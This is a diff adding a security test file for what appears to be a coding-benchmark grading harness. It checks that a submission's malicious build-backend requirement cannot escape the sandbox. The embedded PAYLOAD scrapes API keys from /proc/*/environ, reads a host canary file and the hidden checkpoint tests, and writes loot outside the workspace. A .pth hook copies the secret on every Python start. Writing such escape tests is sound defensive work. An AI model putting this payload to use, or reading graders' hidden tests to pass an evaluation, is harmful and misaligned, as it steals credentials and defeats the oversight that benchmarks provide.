@@ -1,0 +1,175 @@
+"""The requirements escape: a requirement whose build backend is the attacker's own code.
+
+`evilpkg @ file://WORKSPACE/evil` names an in-tree build backend, so installing the submission's
+requirements runs it. It tries to read a host file, list /root, read the harness's API key from
+/proc/*/environ, read checkpoint 2's hidden tests, and write its loot (and the hidden tests) into
+the workspace, a folder outside it and the other environments of the cache. It must find nothing,
+and nothing it wrote may reach a place the harness reads later.
+"""
+
+from __future__ import annotations
+
+import os
+import secrets
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from benchwright.coding.grading import GradeOptions, grade_checkpoint
+from benchwright.coding.loader import load_problem
+from benchwright.sandbox import get_runtime
+from tests.conftest import CONFTEST, run_cli, write_problem
+from tests.security.evil_package import write_evil_package
+
+pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs bubblewrap")
+
+PAYLOAD = '''
+import glob, os, shutil
+found = []
+
+def attempt(label, fn):
+    try:
+        found.append(f"LOOT-{label}={fn()}")
+    except Exception as exc:
+        found.append(f"LOOT-{label}!{type(exc).__name__}")
+
+def environs():
+    hits = []
+    for path in glob.glob("/proc/*/environ") + [f"/proc/{os.getppid()}/environ"]:
+        try:
+            data = open(path, "rb").read()
+        except OSError:
+            continue
+        hits += [v.decode(errors="replace") for v in data.split(b"\\0") if b"API_KEY=" in v]
+    return "|".join(hits)
+
+attempt("secret", lambda: open(SECRET).read())
+attempt("root", lambda: "|".join(sorted(os.listdir("/root"))))
+attempt("environ", environs)
+attempt("hidden", lambda: open(HIDDEN).read())
+LOOT = "\\n".join(found)
+for sink in [WORKSPACE, OUTSIDE, *glob.glob(CACHE + "/envs/*/")]:
+    try:
+        with open(os.path.join(sink, "loot.txt"), "w") as handle:
+            handle.write(LOOT)
+    except OSError:
+        pass
+try:
+    shutil.copy(HIDDEN, os.path.join(WORKSPACE, "stolen_test_checkpoint_2.py"))
+except OSError:
+    pass
+'''
+
+# The attacker's own files name the canary file (to read it); they hold no loot.
+OWN_FILES = {"backend.py", "evilpkg_hook.pth"}
+
+
+class Scene:
+    """The attack's setting: canaries, the problem, the workspace, the outside folder."""
+
+    def __init__(self, root: Path) -> None:
+        self.secret = f"HOST-SECRET-{secrets.token_hex(8)}"
+        self.key = f"sk-canary-{secrets.token_hex(8)}"
+        self.hidden = f"HIDDEN-ASSERTION-{secrets.token_hex(8)}"
+        self.cache = root / "cache"
+        self.outside = root / "outside"
+        self.outside.mkdir()
+        # In the harness's home: the backend reads it and looks for its name in /root.
+        self.secret_file = Path.home() / f".benchwright-canary-{secrets.token_hex(8)}"
+        self.secret_file.write_text(self.secret)
+        self.problem_dir = write_problem(root / "problem", """
+            name: escape
+            entry_file: tool
+            checkpoints:
+              checkpoint_1: {version: 1, order: 1}
+              checkpoint_2: {version: 1, order: 2}
+        """, {"tests/conftest.py": CONFTEST,
+              "tests/test_checkpoint_1.py": "def test_ok():\n    assert True\n",
+              "tests/test_checkpoint_2.py": f"def test_hidden():\n    assert '{self.hidden}'\n"})
+        self.workspace = root / "workspace"
+        self.workspace.mkdir()
+        (self.workspace / "tool.py").write_text("print('ok')\n")
+        constants = (f"SECRET = {str(self.secret_file)!r}\n"
+                     f"HIDDEN = {str(self.problem_dir / 'tests' / 'test_checkpoint_2.py')!r}\n"
+                     f"WORKSPACE = {str(self.workspace)!r}\nOUTSIDE = {str(self.outside)!r}\n"
+                     f"CACHE = {str(self.cache)!r}\n")
+        # Run by every start of the built environment's python, wherever the harness starts it.
+        pth = (f"import shutil; shutil.copy({str(self.secret_file)!r}, "
+               f"{str(self.outside / 'pth-loot.txt')!r})")
+        write_evil_package(self.workspace / "evil", constants + PAYLOAD, pth)
+        (self.workspace / "requirements.txt").write_text(
+            f"evilpkg @ file://{self.workspace / 'evil'}\n")
+        self.before = sorted(p.name for p in self.workspace.iterdir())
+
+    def environ(self) -> dict[str, str]:
+        return {**os.environ, "OPENAI_API_KEY": self.key, "BENCHWRIGHT_CACHE_DIR": str(self.cache)}
+
+    def assert_found_nothing(self, *also: Path) -> None:
+        """No canary anywhere the attacker could write, and nothing written outside."""
+        assert list(self.outside.iterdir()) == []
+        assert sorted(p.name for p in self.workspace.iterdir()) == self.before
+        canaries = (self.secret, self.key, self.hidden, self.secret_file.name)
+        for folder in (self.cache, self.workspace, self.outside, *also):
+            for path in (p for p in folder.rglob("*") if p.is_file() and not p.is_symlink()):
+                text = path.read_text(errors="replace")
+                leaked = [c for c in canaries if c in text and path.name not in OWN_FILES]
+                assert not leaked, f"{path} holds {leaked}"
+
+
+@pytest.fixture
+def scene(tmp_path: Path) -> Iterator[Scene]:
+    made = Scene(tmp_path)
+    try:
+        yield made
+    finally:
+        made.secret_file.unlink(missing_ok=True)
+
+
+def _ran_the_backend(packages: list[str]) -> bool:
+    return any(p.startswith("evilpkg") for p in packages)
+
+
+def test_requirement_build_backend_finds_nothing_through_grade_checkpoint(
+    scene: Scene, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for name, value in scene.environ().items():
+        monkeypatch.setenv(name, value)
+    problem = load_problem(scene.problem_dir)
+    output = grade_checkpoint(problem, problem.checkpoints["checkpoint_1"], scene.workspace,
+                              GradeOptions(runtime=get_runtime()))
+    # The backend did run (inside the sandbox), so the attack was really tried.
+    assert _ran_the_backend(output.evaluation.grader.solution_env.packages)
+    dumped = output.model_dump_json()
+    assert scene.secret not in dumped and scene.key not in dumped and scene.hidden not in dumped
+    scene.assert_found_nothing()
+
+
+def test_requirement_build_backend_finds_nothing_through_eval_checkpoint(
+    scene: Scene, tmp_path: Path
+) -> None:
+    out = tmp_path / "out"
+    proc = run_cli("eval", "checkpoint", "--problem-dir", str(scene.problem_dir), "--checkpoint",
+                   "checkpoint_1", "--workspace", str(scene.workspace), "--out", str(out),
+                   env=scene.environ())
+    assert proc.returncode == 0, proc.stderr
+    for leaked in (scene.secret, scene.key, scene.hidden):
+        assert leaked not in proc.stdout + proc.stderr
+    scene.assert_found_nothing(out)
+
+
+def test_built_environment_is_the_harness_and_read_only_to_later_sandboxes(
+    scene: Scene, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for name, value in scene.environ().items():
+        monkeypatch.setenv(name, value)
+    problem = load_problem(scene.problem_dir)
+    output = grade_checkpoint(problem, problem.checkpoints["checkpoint_1"], scene.workspace,
+                              GradeOptions(runtime=get_runtime()))
+    env = output.evaluation.grader.solution_env
+    folder = next(scene.cache.glob(f"envs/solution-{env.key}"))
+    owners = {p.lstat().st_uid for p in [folder, *folder.rglob("*")]}
+    assert owners == {os.getuid()}
+    writable = [p for p in folder.rglob("*") if not p.is_symlink() and p.stat().st_mode & 0o022]
+    assert writable == []
